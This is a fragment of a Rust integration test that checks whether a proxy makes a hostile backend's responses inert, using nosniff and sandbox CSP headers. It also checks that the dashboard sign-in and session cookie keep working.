        assert_eq!(headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff", "{what}");
        assert!(headers[header::CONTENT_SECURITY_POLICY].to_str().unwrap().starts_with("sandbox"), "{what}");
    };
    for path in ["/auth/orgadmin/anything", "/kv/x", "/cloud/organizations"] {
        let res = app.client.get(format!("{}{path}", app.proxy)).send().await.unwrap();
        inert(res.headers(), path);
    }
    // Signed in to the dashboard with a key the hostile Backend accepts, its /ui/api answers too.
    let mut browser = crate::ui::Browser::new(&app);
    let page = browser.get("/ui/sign-in").await;
    let token = crate::ui::csrf(&page);
    let signed = browser.post("/ui/sign-in", &[("csrf", &token), ("api_key", "hk_anything")]).await;
    assert_eq!(signed.status, StatusCode::SEE_OTHER);
    let answered = browser.get("/ui/api/kv/x").await;
    inert(&answered.headers, "/ui/api/kv/x");
    assert!(browser.get("/ui/").await.status.is_success(), "the dashboard's own session cookie was kept");
}
